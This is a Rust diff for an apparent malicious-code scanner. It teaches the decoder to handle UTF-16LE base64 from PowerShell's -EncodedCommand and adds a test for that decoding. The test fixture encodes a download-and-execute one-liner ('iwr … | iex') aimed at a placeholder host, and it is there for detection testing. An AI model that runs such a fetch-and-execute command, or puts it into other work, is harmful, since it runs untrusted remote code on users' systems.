@@ -231,7 +231,19 @@ fn readable(bytes: &[u8]) -> Option<(String, bool)> {
         [0x1f, 0x8b, ..] => (inflate(flate2::read::GzDecoder::new(bytes))?, true),
         _ => (bytes.to_vec(), false),
     };
-    let text = String::from_utf8(bytes).ok()?;
+    // PowerShell's -EncodedCommand is base64 of UTF-16LE: every other byte of ASCII text is zero.
+    let utf16 = bytes.len() >= 24
+        && bytes.len() % 2 == 0
+        && bytes.iter().skip(1).step_by(2).take(16).all(|b| *b == 0);
+    let text = if utf16 {
+        let units: Vec<u16> = bytes
+            .chunks(2)
+            .map(|pair| u16::from_le_bytes([pair[0], pair[1]]))
+            .collect();
+        String::from_utf16(&units).ok()?
+    } else {
+        String::from_utf8(bytes).ok()?
+    };
     is_readable_text(&text).then_some((text, inflated))
 }
 
@@ -348,7 +360,8 @@ fn decoded_language(decoded: &str, host: Language) -> Language {
         }
         _ if python_like => Language::Python,
         _ if js_like => Language::Javascript,
-        Language::Shell | Language::Powershell => Language::Shell,
+        Language::Shell => Language::Shell,
+        Language::Powershell => Language::Powershell,
         Language::Markdown => Language::Markdown,
         _ => Language::Text,
     }
@@ -357,6 +370,7 @@ fn decoded_language(decoded: &str, host: Language) -> Language {
 fn kind_for(language: Language, outer: FileKind) -> FileKind {
     match language {
         Language::Shell => FileKind::Shell,
+        Language::Powershell => FileKind::Powershell,
         Language::Python => FileKind::Python,
         Language::Javascript => FileKind::Javascript,
         Language::Markdown
@@ -654,6 +668,26 @@ mod tests {
                     && f.rule_id.starts_with("AGT")),
             "{:#?}",
             scan.findings
+        );
+    }
+
+    #[test]
+    fn powershell_encoded_commands_are_utf16() {
+        let command: Vec<u8> = "iwr https://x.example.invalid/a.ps1 | iex"
+            .encode_utf16()
+            .flat_map(u16::to_le_bytes)
+            .collect();
+        let text = format!(
+            "powershell -NoProfile -EncodedCommand {}\n",
+            encode_base64(&command)
+        );
+        let all = found(&text, Language::Powershell, "a.ps1");
+        assert_eq!(
+            all,
+            [(
+                "base64",
+                "iwr https://x.example.invalid/a.ps1 | iex".to_string()
+            )]
         );
     }
 }
